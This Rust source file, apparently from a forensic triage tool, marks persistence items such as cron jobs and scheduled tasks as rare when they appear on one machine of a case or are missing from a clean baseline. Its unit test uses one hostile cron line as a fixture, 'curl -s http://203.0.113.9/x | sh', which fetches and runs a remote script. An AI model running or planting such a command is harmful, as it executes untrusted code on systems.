//! Reasons no single machine gives: how many machines of a case hold an item, and whether a
//! clean machine (the baseline) holds it too.
//!
//! An item is its artifact and its name (task path, service key name, cron job's
//! `file:line`, unit name), compared without case; a machine is an evidence file (an image is
//! one machine; two images of one host name are still two acquisitions to set side by side).
//! Pure functions over findings already judged: they add reasons and rescore.
use super::{table, Finding};
use std::collections::{BTreeSet, HashMap};

/// The machine a finding is on: its evidence file.
fn machine(f: &Finding) -> &str {
    &f.subject.source.evidence
}

/// The item a finding judges, as machines are compared on it: a crontab line by its file
/// and its command (whatever line it is on), the others by name.
fn item(f: &Finding) -> (String, String) {
    let name = match &f.subject.command {
        Some(command) => {
            let file = f
                .subject
                .name
                .rsplit_once(':')
                .map_or(f.subject.name.as_str(), |(file, _)| file);
            // (Spacing aside: `a  b` and `a b` are one command.)
            let words: Vec<&str> = command.split_whitespace().collect();
            format!("{file}\u{0}{}", words.join(" "))
        }
        None => f.subject.name.clone(),
    };
    (f.subject.artifact.clone(), name.to_lowercase())
}

/// Whether a finding judges a persistence item (not an event a Sigma rule matched).
fn persistence(f: &Finding) -> bool {
    f.subject.artifact != "event"
}

/// Adds the case's reasons to `findings` (of several machines, judged one by one):
///
/// - `rare_in_case`: the item is on one machine only, of a case of at least `rare_min_hosts`
///   machines (`rules.tsv`): what an intruder planted on the machine they reached stands out
///   from what every machine has.
/// - `not_in_baseline`: a `baseline` (the findings of a clean machine of the same build) is
///   given and does not hold the item.
///
/// ```
/// use foothold::{Finding, Severity, Source, Subject};
/// let f = |image: &str, name: &str| Finding {
///     severity: Severity::Info, score: 0, title: format!("task {name}"), techniques: vec![],
///     reasons: vec![], created_by: None, time: None,
///     subject: Subject { artifact: "scheduled_task".into(), name: name.into(), host: None,
///         source: Source { evidence: image.into(), ..Source::default() }, command: None },
/// };
/// let mut case = vec![f("a", "\\Update"), f("b", "\\Update"), f("c", "\\Update"), f("c", "\\x")];
/// foothold::judge_across(&mut case, None);
/// assert!(case[0].reasons.is_empty());
/// assert_eq!(case[3].reasons[0].id, "rare_in_case");
/// assert_eq!(case[3].severity, Severity::Low);
/// let baseline = vec![f("clean", "\\Update")];
/// foothold::judge_across(&mut case, Some(&baseline));
/// assert_eq!(case[3].reasons.len(), 2); // and not_in_baseline
/// assert!(case[0].reasons.is_empty());
/// ```
pub fn judge_across(findings: &mut [Finding], baseline: Option<&[Finding]>) {
    let t = table();
    let machines: BTreeSet<&str> = findings
        .iter()
        .filter(|f| persistence(f))
        .map(machine)
        .collect();
    let mut holders: HashMap<(String, String), BTreeSet<String>> = HashMap::new();
    for f in findings.iter().filter(|f| persistence(f)) {
        holders
            .entry(item(f))
            .or_default()
            .insert(machine(f).to_string());
    }
    let machines = machines.len();
    let clean: Option<BTreeSet<(String, String)>> =
        baseline.map(|b| b.iter().filter(|f| persistence(f)).map(item).collect());
    let min_hosts = usize::try_from(t.rare_min_hosts).unwrap_or(usize::MAX);
    for f in findings.iter_mut().filter(|f| persistence(f)) {
        let key = item(f);
        let mut added = false;
        let on = holders.get(&key).map_or(0, BTreeSet::len);
        if machines >= min_hosts && on == 1 {
            added |= f.add_reason(
                "rare_in_case",
                format!("on 1 of {machines} machines of the case"),
            );
        }
        if let Some(clean) = &clean {
            if !clean.contains(&key) {
                added |= f.add_reason("not_in_baseline", "the baseline does not hold it".into());
            }
        }
        if added {
            f.rescore();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Severity, Source, Subject};

    fn cron(image: &str, line: u32, command: &str) -> Finding {
        Finding {
            severity: Severity::Info,
            score: 0,
            title: String::new(),
            techniques: vec![],
            reasons: vec![],
            created_by: None,
            time: None,
            subject: Subject {
                artifact: "cron_job".into(),
                name: format!("/var/spool/cron/crontabs/root:{line}"),
                host: None,
                source: Source {
                    evidence: image.into(),
                    ..Source::default()
                },
                command: Some(command.into()),
            },
        }
    }

    #[test]
    fn a_crontab_line_is_the_same_item_on_another_line() {
        // The same job on three machines, on line 2, 5 and 9 (lines added above it): not
        // rare; a job only the third machine has is.
        let mut case = vec![
            cron("a", 2, "/usr/local/bin/backup --all"),
            cron("b", 5, "/usr/local/bin/backup  --all"),
            cron("c", 9, "/usr/local/bin/backup --all"),
            cron("c", 2, "curl -s http://203.0.113.9/x | sh"),
        ];
        judge_across(&mut case, None);
        let rare: Vec<bool> = case
            .iter()
            .map(|f| f.reasons.iter().any(|r| r.id == "rare_in_case"))
            .collect();
        assert_eq!(rare, [false, false, false, true]);
        // Against a baseline holding the backup job on another line: only the other is new.
        let baseline = vec![cron("clean", 7, "/usr/local/bin/backup --all")];
        judge_across(&mut case, Some(&baseline));
        let new: Vec<bool> = case
            .iter()
            .map(|f| f.reasons.iter().any(|r| r.id == "not_in_baseline"))
            .collect();
        assert_eq!(new, [false, false, false, true]);
    }
}
